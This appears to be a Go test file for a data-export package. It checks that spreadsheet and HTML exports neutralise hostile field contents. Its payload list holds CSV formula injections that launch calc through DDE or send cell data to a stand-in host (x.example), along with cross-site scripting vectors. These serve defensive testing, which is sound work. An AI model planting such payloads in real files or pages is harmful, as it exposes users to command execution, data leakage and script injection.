package export

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"maps"
	"os/exec"
	"reflect"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/postern-gateway/postern/pkg/agreement"
	"github.com/postern-gateway/postern/pkg/dataset"
	"github.com/postern-gateway/postern/pkg/manifest"
	"github.com/postern-gateway/postern/pkg/register"
	"github.com/postern-gateway/postern/schemas"
)

// payloads are what somebody may have written into a field to have it run where it is read: formulas, markup, and what
// hides either from whoever looks at the beginning of a text.
func payloads() []string {
	return []string{
		`=1+1`, `+1+1`, `-1+1`, `@SUM(1,1)`, "\t=1+1", "\r=1+1", "\n=1+1", "\r\n@SUM(1)", "\x00=1+1", "\x00", "\t", " =1+1", "\u00a0=1+1",
		"\u200b=1+1", "\ufeff=1+1", "\u202e=1+1", "\u2066@x", `＝1+1`, `＋1`, `－1`, `＠SUM(1)`, "\u3000＝1", `﹦1`, `−1`,
		`=cmd|' /C calc'!A0`, `=HYPERLINK("http://x.example/?"&A1,"click")`, `=IMPORTXML(CONCAT("http://x.example/",A1),"//a")`,
		`-2+3+cmd|' /C calc'!D2`, `"=1+1`, `","=1+1`, "a\r\n=1+1", `';=1+1`, `=DDE("cmd";"/C calc";"x")`, `'=1+1`, `%0A=1`,
		`<script>alert(1)</script>`, `"><script>alert(1)</script>`, `</td></tr></table><script src=//x.example></script>`,
		`<img src=x onerror=alert(1)>`, `' onmouseover='alert(1)`, `" autofocus onfocus="alert(1)`, `javascript:alert(1)`, `https://x.example/"onclick="x`,
		`</style><style>*{background:url(//x.example)}</style>`, `<!--`, `--><b>`, `<![CDATA[<b>]]>`, `&lt;b&gt;`, `&#60;b&#62;`, `{{.Root}}`, `{{template "main"}}`,
		`</title><base href=//x.example>`, `<svg/onload=alert(1)>`, `<iframe srcdoc="<b>">`, "<\x00script>", `＜script＞`, `<a href=javascript:alert(1)>`,
		"\xff\xfe<b>", `<meta http-equiv=refresh content=0>`,
	}
}

// fill sets every string within a value to a text.
func fill(v reflect.Value, text string) {
	switch v.Kind() {
	case reflect.String:
		v.SetString(text)
	case reflect.Pointer:
		v.Set(reflect.New(v.Type().Elem()))
		fill(v.Elem(), text)
	case reflect.Struct:
		for _, f := range v.Fields() {
			if f.CanSet() {
				fill(f, text)
			}
		}
	case reflect.Slice:
		if v.Type().Elem().Kind() != reflect.Uint8 {
			v.Set(reflect.MakeSlice(v.Type(), 2, 2))
			for i := range v.Len() {
				fill(v.Index(i), text)
			}
		}
	case reflect.Int, reflect.Int32, reflect.Int64:
		v.SetInt(7)
	}
}

func filled[T any](text string) T {
	var v T
	fill(reflect.ValueOf(&v).Elem(), text)
	return v
}

// everyField is a register with the text in every field of every kind.
func everyField(t testing.TB, text string) []register.Entry {
	t.Helper()
	return []register.Entry{
		entryOf(t, KindRoles, filled[RolesBody](text)), entryOf(t, KindDecision, filled[DecisionBody](text)), entryOf(t, KindState, filled[StateBody](text)),
		entryOf(t, KindPreflight, filled[PreflightBody](text)), entryOf(t, KindKeys, filled[KeysBody](text)), entryOf(t, KindRefused, filled[RefusedBody](text)),
		entryOf(t, manifest.PreparedKind, filled[manifest.Prepared](text)), entryOf(t, KindPublished, filled[PublishedBody](text)),
		entryOf(t, KindAbandoned, filled[AbandonedBody](text)), entryOf(t, KindWithdrawn, filled[WithdrawnBody](text)),
		entryOf(t, register.KindErased, register.Erasure{Index: 99, Kind: text, Reason: text, Kept: json.RawMessage("{}")}), entryOf(t, "later-kind", map[string]string{text: text}),
	}
}

// processed is a record of processing with the text in every field of the agreement and of a decision on it.
func processed(catalogue *dataset.Catalogue, text string, public bool) []Activity {
	a := filled[agreement.Agreement](text)
	a.Tables = append(a.Tables, agreement.Table{ID: "children", Columns: []agreement.Column{{Name: text, From: "ethnicity", Treatment: agreement.Treatment{Kind: dataset.Keep}}}})
	a.Transfer.Locations = []string{"GB", text}
	considered := filled[agreement.Considered](text)
	considered.Counts = true
	return []Activity{activity(&a, catalogue, &agreement.Status{State: agreement.State(text), Decisions: []agreement.Considered{considered}}, public)}
}

// loaded reads the built-in definitions once for all tests.
var loaded = sync.OnceValues(func() (*dataset.Catalogue, error) { return dataset.Load(schemas.Files) })

func definitions(t testing.TB) *dataset.Catalogue {
	t.Helper()
	catalogue, err := loaded()
	if err != nil {
		t.Fatal(err)
	}
	return catalogue
}

// documents are what can be written of them.
func documents(t testing.TB, catalogue *dataset.Catalogue, text string) (sheets, pages map[string]string) {
	t.Helper()
	sheets, pages = map[string]string{}, map[string]string{}
	write := func(into map[string]string, name string, write func(io.Writer) error) {
		var b bytes.Buffer
		if err := write(&b); err != nil {
			t.Fatal(err)
		}
		into[name] = b.String()
	}
	for _, public := range []bool{false, true} {
		entries, activities := told(t, public, everyField(t, text)...), processed(catalogue, text, public)
		name := fmt.Sprintf("public %v, ", public)
		page := HistoryPage{Council: text, Origin: text, Root: "cm9vdA==", Records: 1, Chosen: text, Public: public, Entries: entries}
		council := ProcessingPage{Council: text, Activities: activities}
		write(sheets, name+"register", func(w io.Writer) error { return HistoryCSV(w, entries) })
		write(sheets, name+"processing", func(w io.Writer) error { return ProcessingCSV(w, activities) })
		write(pages, name+"register", func(w io.Writer) error { return HistoryHTML(w, page) })
		write(pages, name+"processing", func(w io.Writer) error { return ProcessingHTML(w, council) })
		write(pages, name+"sharing", func(w io.Writer) error { return SharingHTML(w, council) })
	}
	return sheets, pages
}

// computes reports whether a spreadsheet might take a cell for something to compute. It is written apart from cellText:
// a list of what may stand first, not of what may not.
func computes(cell string) bool {
	if cell == "" {
		return false
	}
	begins := []rune(cell)[0]
	return !(begins == '\'' || begins >= '0' && begins <= '9' || begins >= 'A' && begins <= 'Z' || begins >= 'a' && begins <= 'z' ||
		strings.ContainsRune("\"<>[({&%;,.:!?/\\#*_|~^$€£`\uFFFD＜", begins))
}

func TestPayloadsInSheets(t *testing.T) {
	catalogue := definitions(t)
	shape, _ := documents(t, catalogue, "harmless")
	var all []string
	var ours [][][]string
	for _, text := range payloads() {
		sheets, _ := documents(t, catalogue, text)
		for name, sheet := range sheets {
			rows, err := csv.NewReader(strings.NewReader(sheet)).ReadAll()
			if err != nil {
				t.Fatalf("%s with %q: %v", name, text, err)
			}
			for _, row := range rows {
				for _, cell := range row {
					if computes(cell) || strings.ContainsAny(cell, "\x00\t\r\n") {
						t.Errorf("%s with %q: the cell %q", name, text, cell)
					}
				}
			}
			if want, _ := csv.NewReader(strings.NewReader(shape[name])).ReadAll(); len(rows) != len(want) {
				t.Errorf("%s with %q: %d rows, want %d", name, text, len(rows), len(want))
			}
			all, ours = append(all, sheet), append(ours, rows)
		}
	}
	var theirs [][][]string
	python(t, "import csv,io\nread = lambda text: list(csv.reader(io.StringIO(text, newline=''), strict=True))", all, &theirs)
	if !reflect.DeepEqual(ours, theirs) {
		t.Error("python3 reads other cells")
	}
}

// python has every text read by a function of a program, and what that returns put into out. Without python3 the test is
// skipped.
func python(t *testing.T, program string, texts []string, out any) {
	t.Helper()
	if _, err := exec.LookPath("python3"); err != nil {
		t.Skip("python3 is not here: its parsers did not read what was written")
	}
	in, err := json.Marshal(texts)
	if err != nil {
		t.Fatal(err)
	}
	c := exec.Command("python3", "-c", program+"\nimport json,sys\nprint(json.dumps([read(text) for text in json.load(sys.stdin)]))")
	c.Stdin = bytes.NewReader(in)
	answer, err := c.Output()
	var failed *exec.ExitError
	if errors.As(err, &failed) {
		t.Fatalf("python3: %s", failed.Stderr)
	}
	if err == nil {
		err = json.Unmarshal(answer, out)
	}
	if err != nil {
		t.Fatal(err)
	}
}

// tags lists the elements of a page with their attributes, and everything that is neither text nor element.
func tags(t *testing.T, page string) (out []string) {
	t.Helper()
	d := xml.NewDecoder(strings.NewReader(page))
	d.Strict, d.AutoClose, d.Entity = false, xml.HTMLAutoClose, xml.HTMLEntity
	for {
		token, err := d.Token()
		if errors.Is(err, io.EOF) {
			return out
		}
		if err != nil {
			t.Fatal(err)
		}
		switch token := token.(type) {
		case xml.StartElement:
			out = append(out, fmt.Sprint(token.Name.Local, token.Attr))
		case xml.EndElement:
			out = append(out, "/"+token.Name.Local)
		case xml.CharData:
		default:
			out = append(out, fmt.Sprintf("%T", token))
		}
	}
}

// htmlTags does as tags does, with the parser of python3.
const htmlTags = `
from html.parser import HTMLParser
class Tags(HTMLParser):
    def __init__(self): super().__init__(); self.out = []
    def handle_starttag(self, tag, attrs): self.out.append(tag + repr(attrs))
    def handle_endtag(self, tag): self.out.append("/" + tag)
    def handle_comment(self, data): self.out.append("comment")
    def handle_decl(self, decl): self.out.append("declaration")
    def handle_pi(self, data): self.out.append("instruction")
    def unknown_decl(self, data): self.out.append("unknown")
def read(text):
    p = Tags(); p.feed(text); p.close()
    return p.out`

// Whatever stands in a field, the page has the elements and attributes that it has with a harmless word there.
func TestPayloadsInPages(t *testing.T) {
	catalogue := definitions(t)
	_, harmless := documents(t, catalogue, "harmless")
	names := slices.Sorted(maps.Keys(harmless))
	var all []string
	for _, text := range append([]string{"harmless"}, payloads()...) {
		if oneLine(text) == "" { // what says nothing is left out, and its element with it
			continue
		}
		_, pages := documents(t, catalogue, text)
		for _, name := range names {
			if !slices.Equal(tags(t, pages[name]), tags(t, harmless[name])) {
				t.Errorf("%s with %q: the page has other elements", name, text)
			}
			if said := oneLine(text); strings.Contains(said, "<") && strings.Contains(pages[name], said) {
				t.Errorf("%s with %q: it stands there as it is", name, text)
			}
			all = append(all, pages[name])
		}
	}
	var seen [][]string
	python(t, htmlTags, all, &seen)
	for i, elements := range seen {
		if want := seen[i%len(names)]; len(elements) == 0 || !slices.Equal(elements, want) {
			t.Errorf("page %d: python3 sees other elements", i)
		}
	}
}

// A cell keeps what was written, but for NUL and an apostrophe; numbers are numbers, negative ones too.
func TestCellText(t *testing.T) {
	for text, want := range map[string]string{
		"": "", "plain": "plain", "a=b": "a=b", "=1": "'=1", "-1": "'-1", "+44": "'+44", "@x": "'@x", "＝1": "'＝1", "＠": "'＠", "\t": "'\t", "\tx": "'\tx", "\rx": "'\rx",
		"\nx": "'\nx", "\x00x": "'x", "x\x00": "x", " -1": "' -1", "'=1": "'=1", "\u200b=1": "'\u200b=1", "don't": "don't", "–": "–", " x": " x",
	} {
		if got := cellText(text); got != want {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
	var b strings.Builder
	s := newSheet(&b)
	if err := errors.Join(s.row(int64(-7), "-7", "a,b", "a\"b", "a\nb"), s.done()); err != nil {
		t.Fatal(err)
	}
	if want := "-7,'-7,\"a,b\",\"a\"\"b\",\"a\r\nb\"\r\n"; b.String() != want {
		t.Errorf("%q, want %q", b.String(), want)
	}
	if err := newSheet(io.Discard).row(7); err == nil {
		t.Error("a cell that is neither text nor a number was written")
	}
}

func TestOneLine(t *testing.T) {
	for text, want := range map[string]string{
		"a\x1b[31mb": "a [31mb", "a\r\nb\tc": "a b c", "\u202eabc": "abc", "  a  b ": "a b", "é\u2028ü": "é ü", "\xff": "\uFFFD", "a\u0085b": "a b",
	} {
		if got := oneLine(text); got != want {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
}
